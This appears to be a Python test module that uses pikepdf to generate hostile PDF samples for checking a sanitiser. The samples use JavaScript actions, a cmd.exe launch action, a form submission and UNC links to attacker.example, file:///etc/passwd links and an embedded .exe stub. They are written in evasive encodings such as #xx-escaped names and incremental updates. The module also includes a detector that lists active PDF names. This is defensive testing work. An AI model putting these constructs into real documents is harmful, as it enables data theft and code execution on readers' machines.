"""A corpus of active PDFs, built here with pikepdf, and an independent check of what is left.

Each construct (a script, an action, an attached file…) is written in several encodings:
plain objects, compressed object streams, an incremental update appended after the first
%%EOF, and names written with #xx escapes (/J#61vaScript), as hostile files do to slip
past a check that reads the bytes.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
VISIBLE_TEXT = b"Lettre d'engagement de la collectivite"


def base_pdf() -> pikepdf.Pdf:
    """A one-page document with real content: a line of text in a standard font."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
    text = b"BT /F1 14 Tf 72 760 Td (" + VISIBLE_TEXT + b") Tj ET"
    page.Contents = pdf.make_stream(text)
    return pdf


def _js(pdf: pikepdf.Pdf, code: str = "app.alert('EXPE-CT');") -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _action(pdf: pikepdf.Pdf, kind: str, **entries) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name(kind), **entries))


UNC = String("\\\\attacker.example\\share\\x.pdf")


def _annotation(pdf: pikepdf.Pdf, subtype: str, *, typed: bool = True, **entries) -> None:
    annotation = Dictionary(Subtype=Name(subtype), Rect=Array([72, 600, 300, 620]), **entries)
    if typed:
        annotation.Type = Name.Annot
    page = pdf.pages[0].obj
    annotations = page.get("/Annots", Array())
    annotations.append(pdf.make_indirect(annotation))
    page.Annots = annotations


def _link(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    _annotation(pdf, "/Link", A=action, Border=Array([0, 0, 0]))


def _filespec(pdf: pikepdf.Pdf) -> pikepdf.Object:
    exe = pdf.make_stream(b"MZ\x90\0" + b"\x90" * 64)
    exe.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("facture.exe"), EF=Dictionary(F=exe))
    )


def _names(pdf: pikepdf.Pdf, tree: str, value: pikepdf.Object, *, kids: bool = False) -> None:
    leaf = Dictionary(Names=Array([String("x"), value]))
    if kids:  # the entry hidden in an intermediate node of the tree
        leaf.Limits = Array([String("x"), String("x")])
        node = Dictionary(Kids=Array([pdf.make_indirect(leaf)]))
    else:
        node = leaf
    names = pdf.Root.get("/Names", Dictionary())
    names[tree] = pdf.make_indirect(node)
    pdf.Root.Names = names


def _field(pdf: pikepdf.Pdf, **entries) -> None:
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("nom"),
            Rect=Array([72, 500, 300, 520]),
            P=pdf.pages[0].obj,
            **entries,
        )
    )
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _xfa(pdf: pikepdf.Pdf) -> None:
    script = b'<xdp:xdp><script contentType="application/x-javascript">app.alert(1)</script>'
    # Compressed, as producers write it (and so that no markup shows in the file's bytes).
    xfa = pdf.make_stream(zlib.compress(script + b"</xdp:xdp>"), Filter=Name.FlateDecode)
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)


CONSTRUCTS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "JavaScript open action": lambda p: setattr(p.Root, "OpenAction", _js(p)),
    "launch open action": lambda p: setattr(
        p.Root, "OpenAction", _action(p, "/Launch", F=String("cmd.exe"))
    ),
    "JavaScript in the names tree": lambda p: _names(p, "/JavaScript", _js(p)),
    "JavaScript in the Kids of the names tree": lambda p: _names(
        p, "/JavaScript", _js(p), kids=True
    ),
    "document additional action": lambda p: setattr(p.Root, "AA", Dictionary(WC=_js(p))),
    "page additional action": lambda p: setattr(p.pages[0].obj, "AA", Dictionary(O=_js(p))),
    "link running JavaScript": lambda p: _link(p, _js(p)),
    "annotation additional action": lambda p: _annotation(
        p, "/Link", AA=Dictionary(E=_js(p)), A=_action(p, "/URI", URI=String("https://a.fr"))
    ),
    "form field scripts": lambda p: _field(p, A=_js(p), AA=Dictionary(K=_js(p), F=_js(p))),
    "remote go-to a network share": lambda p: _link(p, _action(p, "/GoToR", F=UNC, D=Array([0]))),
    "embedded go-to": lambda p: _link(
        p, _action(p, "/GoToE", T=Dictionary(R=Name.C, N=String("x")))
    ),
    "import data from a share": lambda p: _link(p, _action(p, "/ImportData", F=UNC)),
    "submit form": lambda p: _field(
        p, A=_action(p, "/SubmitForm", F=String("https://attacker.example/collect"))
    ),
    "reset form": lambda p: _field(p, A=_action(p, "/ResetForm")),
    "hide action": lambda p: _link(p, _action(p, "/Hide", T=String("nom"))),
    "XFA form with a script": _xfa,
    "rich media": lambda p: _annotation(
        p, "/RichMedia", RichMediaContent=Dictionary(Assets=Dictionary())
    ),
    "3D annotation": lambda p: _annotation(p, "/3D", **{"3DD": p.make_stream(b"U3D")}),
    "embedded files": lambda p: _names(p, "/EmbeddedFiles", _filespec(p)),
    "file attachment annotation": lambda p: _annotation(p, "/FileAttachment", FS=_filespec(p)),
    "file attachment annotation without /Type": lambda p: _annotation(
        p, "/FileAttachment", typed=False, FS=_filespec(p)
    ),
    "link to a local file": lambda p: _link(
        p, _action(p, "/URI", URI=String("file:///etc/passwd"))
    ),
    "link to a network share": lambda p: _link(p, _action(p, "/URI", URI=UNC)),
    "javascript: link": lambda p: _link(p, _action(p, "/URI", URI=String("javascript:alert(1)"))),
    "JavaScript at the end of a /Next array": lambda p: _link(
        p,
        _action(
            p,
            "/URI",
            URI=String("https://www.diplomatie.gouv.fr/"),
            Next=Array([_action(p, "/URI", URI=String("https://a.fr")), _js(p)]),
        ),
    ),
    "JavaScript in nested /Next actions": lambda p: setattr(
        p.Root,
        "OpenAction",
        _action(
            p,
            "/GoTo",
            D=Array([p.pages[0].obj, Name.Fit]),
            Next=_action(p, "/GoTo", D=Array([p.pages[0].obj, Name.Fit]), Next=_js(p)),
        ),
    ),
}


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, static_id=True, **options)
    return buffer.getvalue()


def plain(construct: Callable) -> bytes:
    pdf = base_pdf()
    construct(pdf)
    return _save(pdf, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def object_streams(construct: Callable) -> bytes:
    pdf = base_pdf()
    construct(pdf)
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def incremental(construct: Callable) -> bytes:
    """A clean document, then an update appended after its %%EOF that adds the construct."""
    base = _save(base_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    before = pikepdf.open(io.BytesIO(base))
    old = {obj.objgen: _serialise(obj) for obj in before.objects}
    pdf = pikepdf.open(io.BytesIO(base))
    construct(pdf)
    update, offsets = bytearray(b"\n"), {}
    for obj in pdf.objects:
        body = _serialise(obj)
        if old.get(obj.objgen) != body:
            offsets[obj.objgen[0]] = len(base) + len(update)
            update += b"%d 0 obj\n" % obj.objgen[0] + body + b"\nendobj\n"
    xref_at = len(base) + len(update)
    update += b"xref\n"
    for number in sorted(offsets):
        update += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    size = max(o.objgen[0] for o in pdf.objects) + 1
    prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    trailer = Dictionary(Root=pdf.Root, ID=pdf.trailer.ID, Size=size, Prev=prev)
    update += b"trailer\n" + trailer.unparse() + b"\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return base + bytes(update)


def _serialise(obj: pikepdf.Object) -> bytes:
    if isinstance(obj, pikepdf.Stream):
        raw = obj.read_raw_bytes()
        header = Dictionary({k: obj.stream_dict[k] for k in obj.stream_dict if k != "/Length"})
        header.Length = len(raw)
        return header.unparse() + b"\nstream\n" + raw + b"\nendstream"
    return obj.unparse(resolved=True)


ESCAPED = {
    b"/JavaScript": b"/J#61vaScript",
    b"/JS": b"/J#53",
    b"/OpenAction": b"/Open#41ction",
    b"/AA": b"/#41A",
    b"/Launch": b"/L#61unch",
    b"/EmbeddedFiles": b"/Embedded#46iles",
    b"/EmbeddedFile": b"/Embedded#46ile",
    b"/FileAttachment": b"/File#41ttachment",
    b"/GoToR": b"/GoTo#52",
    b"/URI": b"/UR#49",
    b"/XFA": b"/XF#41",
    b"/RichMedia": b"/Rich#4dedia",
    b"/SubmitForm": b"/Submit#46orm",
    b"/ImportData": b"/Import#44ata",
}
NAME = re.compile(rb"/[A-Za-z0-9]+")


def hex_names(construct: Callable) -> bytes:
    """The plain file, its names written with #xx escapes, its cross-reference table rebuilt."""
    data = NAME.sub(lambda m: ESCAPED.get(m.group(), m.group()), plain(construct))
    body = data[: data.rindex(b"xref\n")]
    offsets = [m.start(1) for m in re.finditer(rb"(?m)^(\d+) 0 obj", body)]
    xref = b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    xref += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = data[data.rindex(b"trailer") : data.rindex(b"startxref")]
    return body + xref + trailer + b"startxref\n%d\n%%%%EOF\n" % len(body)


ENCODINGS: dict[str, Callable[[Callable], bytes]] = {
    "plain": plain,
    "object streams": object_streams,
    "incremental update": incremental,
    "#xx names": hex_names,
}
CORPUS = {
    f"{construct} ({encoding})": (CONSTRUCTS[construct], ENCODINGS[encoding])
    for construct in CONSTRUCTS
    for encoding in ENCODINGS
}


def hostile_pdf(case: str) -> bytes:
    construct, encoding = CORPUS[case]
    return encoding(construct)


def pdf_with_eicar(encoding: str = "object streams") -> bytes:
    """A clean-looking document whose page carries the EICAR test string (in a comment of
    its content stream, which a rewrite keeps)."""

    def add(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        page.Contents = pdf.make_stream(b"%" + EICAR + b"\n" + page.Contents.read_bytes())

    return ENCODINGS[encoding](add)


# --- An independent look at a PDF: what active content is left? ----------------------------

ACTIVE_NAMES = {
    "/JavaScript",
    "/JS",
    "/OpenAction",
    "/AA",
    "/Launch",
    "/GoToR",
    "/GoToE",
    "/ImportData",
    "/SubmitForm",
    "/ResetForm",
    "/Hide",
    "/XFA",
    "/RichMedia",
    "/RichMediaContent",
    "/3D",
    "/3DD",
    "/EmbeddedFiles",
    "/EmbeddedFile",
    "/EF",
    "/FileAttachment",
}
SAFE_LINK = re.compile(rb"^(https?://|mailto:)", re.IGNORECASE)


def active_content(data: bytes) -> list[str]:
    """Every active name (as a key or a value) and every non-web link in the document."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack = [pdf.trailer, *pdf.objects]
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Name) and str(obj) in ACTIVE_NAMES:
                found.append(str(obj))
            elif isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                found += [k for k in obj if k in ACTIVE_NAMES]
                uri = obj.get("/URI")
                if isinstance(uri, pikepdf.String) and not SAFE_LINK.match(bytes(uri)):
                    found.append(f"URI {bytes(uri)!r}")
                stack += _direct(obj[k] for k in obj)
            elif isinstance(obj, pikepdf.Array):
                stack += _direct(obj)
    return found


def _direct(values) -> list:
    # The indirect objects are all on the stack already (pdf.objects); numbers come as
    # Python's own.
    return [v for v in values if isinstance(v, pikepdf.Object) and not v.is_indirect]


def visible_text(data: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return b"".join(page.Contents.read_bytes() for page in pdf.pages)
